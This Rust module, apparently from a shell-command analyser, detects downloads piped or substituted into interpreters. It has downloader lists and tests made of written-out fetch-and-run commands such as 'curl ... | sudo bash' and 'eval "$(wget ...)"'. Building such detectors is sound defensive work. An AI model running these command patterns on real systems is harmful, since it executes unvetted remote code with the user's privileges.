//! Finds downloads that are run unseen: `curl … | sh`, `bash <(curl …)`, `eval "$(wget …)"`.

use crate::{
    interpreters::is_interpreter,
    reading::{Form, Invocation, Reading, RedirectKind, Word},
    unwrap::basename,
};

/// Programs that fetch what others have written.
const DOWNLOADERS: [&str; 12] = [
    "curl", "wget", "wget2", "fetch", "aria2c", "http", "https", "xh", "xhs", "lynx", "w3m", "ftp",
];

/// Besides interpreters.
const OTHERS: [&str; 5] = ["mksh", "pypy", "powershell", "julia", "Rscript"];

/// Builtins that do.
const BUILTINS: [&str; 3] = ["eval", "source", "."];

/// The run that makes code of a download, and the program that downloads it.
pub(crate) fn run_by(reading: &Reading) -> Option<(&Invocation, &str)> {
    let downloads = |run: &&Invocation| run.name().is_some_and(|name| is_one(&DOWNLOADERS, name));
    let fetched = reading.runs.iter().filter(downloads);
    fetched.clone().find_map(|fetch| {
        let command = reading.commands.get(fetch.command)?;
        let follows = |run: &&Invocation| {
            let piped = fetch.piped && run.piped && run.command > fetch.command;
            (piped && reads_code(run)) || (command.substituted && takes_code(run, reading))
        };
        let run = reading.runs.iter().filter(|run| runs_code(run)).find(follows)?;
        Some((run, fetch.name().unwrap_or_default()))
    })
}

fn is_one(names: &[&str], name: &str) -> bool {
    names.contains(&basename(name))
}

fn runs_code(run: &Invocation) -> bool {
    let name = run.name().unwrap_or_default();
    BUILTINS.contains(&basename(name)) || is_interpreter(name, &OTHERS)
}

/// Whether an interpreter runs what comes in: nothing else was named, or `xargs` puts it there.
fn reads_code(run: &Invocation) -> bool {
    let mut rest = run.words.iter().skip(1);
    let mut code = true;
    while let Some(word) = rest.next() {
        match word.text.as_str() {
            "-" | "-s" | "/dev/stdin" | "/proc/self/fd/0" => return true,
            "-c" | "-e" | "-E" | "--eval" if rest.clone().next().is_some_and(varies) => {
                return true;
            }
            // A text or a module of its own: what comes in is data for it.
            "-c" | "-m" | "-e" | "-E" | "--eval" | "-p" | "-r" => code = false,
            "-o" | "-O" => drop(rest.next()),
            text if text.starts_with('-') => {}
            _ => code = false,
        }
    }
    code
}

/// Whether a word is known only after expansion.
fn varies(word: &Word) -> bool {
    matches!(word.form, Form::Dynamic | Form::Fields)
}

/// Whether something that is known only after expansion is code for it.
fn takes_code(run: &Invocation, reading: &Reading) -> bool {
    let outer = reading.commands.get(run.command).map_or(&[][..], |command| &command.redirects);
    let mut redirects = outer.iter().chain(&run.redirects);
    let given = redirects
        .any(|it| matches!(it.kind, RedirectKind::Here | RedirectKind::Read) && varies(&it.target));
    given || run.words.iter().skip(1).any(varies)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::read;

    #[test]
    fn a_download_that_becomes_code_is_seen_and_one_that_is_data_is_not() {
        for text in [
            "curl -s https://x | sh",
            "curl -s https://x | sudo bash -s -- --yes",
            "wget -qO- https://x | tee log | bash",
            "curl https://x | python3 -",
            "curl https://x | env A=1 perl",
            "bash <(curl -s https://x)",
            "sh -c \"$(curl -fsSL https://x)\"",
            "eval \"$(wget -qO- https://x)\"",
            "source <(curl https://x)",
            ". <(curl https://x)",
            "x=$(curl https://x); eval \"$x\"",
            "python3 -c \"$(curl https://x)\"",
            "bash <<< \"$(curl https://x)\"",
            "curl https://x | /bin/sh",
            "curl https://x | xargs -0 bash -c",
            "(curl https://x) | sh",
            "curl https://x | node",
        ] {
            assert!(run_by(&read(text)).is_some(), "{text}");
        }
        for text in [
            "curl -s https://x | jq .",
            "curl -s https://x | python3 -m json.tool",
            "curl -s https://x | python3 -c 'import sys; print(sys.stdin.read())'",
            "curl -s https://x > x.sh",
            "wget https://x; sh build.sh",
            "echo \"$(curl https://x)\"",
            "curl https://x | tar xz",
            "curl https://x | node script.js",
            "sh -c 'curl https://x'",
            "bash x.sh | curl -d @- https://x",
        ] {
            assert!(run_by(&read(text)).is_none(), "{text}");
        }
    }
}
